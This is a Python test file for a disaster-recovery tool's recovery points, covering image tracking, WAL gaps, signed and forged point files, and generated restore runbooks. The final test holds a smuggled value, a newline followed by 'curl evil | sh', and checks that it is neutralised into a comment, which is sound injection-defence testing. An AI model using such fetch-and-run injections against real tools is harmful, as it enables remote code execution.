"""What a recovery point holds, what it says it lacks, and how it reads on the day it is needed."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest

from actions import registry
from actions.backup.physical import Gap
from actions.catalog.points import ImagesParams, PointsParams, RecordParams
from actions.contract import Verdict
from actions.errors import UserError
from actions.points import ContainerImage, RecoveryPoint, WorkloadPart
from actions.steps.point_cluster import image_changes
from actions.steps.point_share import ManualLine
from tests.contract.kit import PLAN_ID, MemoryJournal, run, secrets_in
from tests.fakes.physical_world import with_bases
from tests.fakes.world import API, APP_DIGEST, COMMIT, START, WEB, a_world

KEPT = "images/kept.txt"


@pytest.mark.parametrize("replicas", [3, 0])
async def test_images_of_init_containers_are_looked_for_and_set_back_on_nobody(replicas: int) -> None:
    world = a_world()
    world.cluster.workloads[API].init_images, world.cluster.workloads[API].replicas = (
        ("app:migrate", "tool:2"),
        replicas,
    )

    images = {part.image: part for part in await world.points.images()}
    await world.points.record("point-1")

    assert images["tool:2"].held is False
    assert "not in the registry" in images["tool:2"].problem
    [entry] = await world.points.entries()
    assert "tool:2" in {part.image for part in entry.point.images}
    [api] = [part for part in entry.point.workloads if part.ref == API]
    assert {each.image for each in api.containers} == {"app:1", "sidecar:1"}


async def test_a_point_is_of_a_moment_that_a_base_backup_leads_to_and_of_none_behind_a_gap() -> None:
    world = with_bases()
    [window, *_] = await world.physical.windows("primary")
    assert window.newest is not None
    assert (await world.points.gather("point-1")).moment == window.newest

    lost = window.newest - timedelta(minutes=5)
    found = {
        "timeline_id": 1,
        "first": "0" * 24,
        "last": "0" * 24,
        "after": lost,
        "before": lost + timedelta(minutes=1),
    }
    world.physical.gaps = (Gap.model_validate(found),)
    [part] = (await world.points.gather("point-2")).databases
    assert (part.by_wal, part.moment) == (True, lost)


async def test_what_belongs_together_is_recorded_and_signed() -> None:
    world = a_world()
    await world.escrow.make("main-1", "main")

    await world.points.record("point-1")

    [entry] = await world.points.entries()
    point = entry.point
    assert entry.problem is None
    assert [(part.database, part.by_wal, part.backup) for part in point.databases] == [("shop", False, "b-new")]
    assert point.moment == START.replace(hour=2, minute=0)
    assert [(part.name, part.as_of, part.copy_id) for part in point.files] == [("uploads", point.moment, "")]
    assert [(part.repository, part.held) for part in point.images] == [("mirror/app", True), ("mirror/sidecar", False)]
    assert {part.revision for part in point.manifests} == {COMMIT}
    assert [part.escrow for part in point.secrets] == ["main-1"]
    assert "env:PRIMARY_DSN" in point.references
    assert secrets_in(point.model_dump_json()) == []


async def test_what_a_point_lacks_is_said_in_sentences() -> None:
    world = a_world(gitops=False)
    world.registry.down = True

    point = await world.points.gather("point-1")

    said = " ".join(point.missing)
    assert "no copy in another region" in said
    assert "registry `memory` does not answer" in said
    assert "in no escrow" in said
    assert "No GitOps controller tells" in said


async def test_a_part_that_does_not_answer_hides_no_other() -> None:
    world = a_world()
    world.sealing.down = True

    point = await world.points.gather("point-1")

    assert point.secrets == ()
    assert any("cannot be reached" in sentence for sentence in point.missing)
    assert point.databases
    assert point.images


async def test_images_stay_on_the_list_as_long_as_a_point_may_need_them() -> None:
    world = a_world()
    lists = []
    other = f"sha256:{'b2' * 32}"
    world.registry.add("mirror/app", other)
    for number in range(3):
        await world.points.record(f"point-{number}")
        lists.append((await world.objects.get("uploads-copy", KEPT)).decode().splitlines())
        for workload in world.cluster.workloads.values():
            workload.images = (f"app@{other}",)
        world.clock.advance(timedelta(days=60))

    assert lists == [
        [f"mirror/app@{APP_DIGEST}"],
        [f"mirror/app@{APP_DIGEST}", f"mirror/app@{other}"],
        [f"mirror/app@{other}"],
    ]


@pytest.mark.corruption
async def test_a_forged_point_is_listed_and_not_believed() -> None:
    world = a_world()
    await world.points.record("point-1")
    key = "recovery-points/point-1.json"
    body = json.loads(await world.objects.get("uploads-copy", key))
    body["body"]["databases"][0]["backup"] = "b-old"
    await world.objects.put("uploads-copy", key, json.dumps(body).encode())

    [entry] = await world.points.entries()

    assert entry.problem is not None
    with pytest.raises(UserError, match="changed or forged"):
        await registry.query("status.points").read(PointsParams(point="point-1"), world)


@pytest.mark.corruption
async def test_the_newest_point_is_found_by_reading_few_and_never_one_that_was_put_there_again() -> None:
    world = a_world()
    assert await world.points.newest() is None
    for number in range(30):
        await world.points.record(f"point-{number}")
        world.clock.advance(timedelta(hours=1))
    key = "recovery-points/point-{}.json"
    await world.objects.put("uploads-copy", key.format(0), await world.objects.get("uploads-copy", key.format(0)))
    read: list[str] = []
    whole = world.objects.get

    async def counted(bucket: str, name: str) -> bytes:
        read.append(name)
        return await whole(bucket, name)

    world.objects.get = counted  # type: ignore[assignment, method-assign]

    newest = await world.points.newest()

    assert newest is not None
    assert newest.id == "point-29"
    assert len(read) == 3
    world.clock.advance(timedelta(hours=1))
    for number in range(26, 30):
        await world.objects.put("uploads-copy", key.format(number), b"{}")
    newest = await world.points.newest()
    assert newest is not None
    assert newest.id == "point-25"


async def test_a_point_reads_as_the_commands_that_bring_it_back() -> None:
    world = a_world()
    await world.escrow.make("main-1", "main")
    plan = await registry.action("point.record").plan(RecordParams(), world, PLAN_ID)
    await run(plan, world, MemoryJournal())

    listed = await registry.query("status.points").read(PointsParams(), world)
    runbook = await registry.query("status.points").read(PointsParams(point=plan.target), world)

    assert listed.rows[0][0] == plan.target
    text = "\n".join(runbook.lines)
    assert "/dr-restore shop --from b-new" in text
    assert '/dr files undelete uploads "2026-11-23 02:00:00 UTC" --replace' in text
    assert f"mirror/app@{APP_DIGEST}" in text
    assert text.index("main-1") < text.index(COMMIT) < text.index("/dr-restore") < text.index("/dr app rollout")


async def test_images_that_a_new_cluster_could_not_start_are_found() -> None:
    world = a_world()

    report = await registry.query("status.images").read(ImagesParams(), world)

    assert report.title == "1 of 2 images in the registry of the recovery region"
    assert [finding.verdict for finding in report.findings] == [Verdict.WARN, Verdict.STOP]
    assert "known by tag alone" in report.findings[0].detail
    assert "`sidecar:1` is not in the registry" in report.findings[1].detail


async def test_a_workload_is_not_noted_with_the_digest_of_another_tag() -> None:
    """Of one repository: `worker` is scaled to 0 on an older tag, and what runs is of the other one."""
    world = a_world()
    world.cluster.workloads[WEB].replicas = 0
    for ref, image in ((API, f"shop@{APP_DIGEST}"), (WEB, "shop:1")):
        world.cluster.workloads[ref].images = (image,)
    point = await world.points.gather("p1")
    noted = {part.ref: part.containers[0] for part in point.workloads}
    assert (noted[API].digest, noted[WEB].digest) == (APP_DIGEST, "")


def a_point(container: ContainerImage) -> RecoveryPoint:
    workload = WorkloadPart(ref=API, containers=(container,))
    return RecoveryPoint(id="p", taken_at=START, moment=START, workloads=(workload,))


def test_a_tag_is_not_believed_where_the_digest_is_known() -> None:
    known = ContainerImage(name="app", image="shop:1", digest="sha256:" + "1" * 64)
    then = a_point(known)
    now = a_point(ContainerImage(name="app", image="shop:1"))  # stopped, so nobody can say what the tag means
    [change] = image_changes(then, now)
    assert change.after == {"app": f"shop@{known.digest}"}
    assert image_changes(then, then) == []


def test_names_of_others_are_quoted_in_commands_for_people() -> None:
    line = ManualLine(what="image x", why="it\ncurl evil | sh", command="true")
    assert line.lines[0] == "# image x: it curl evil | sh"
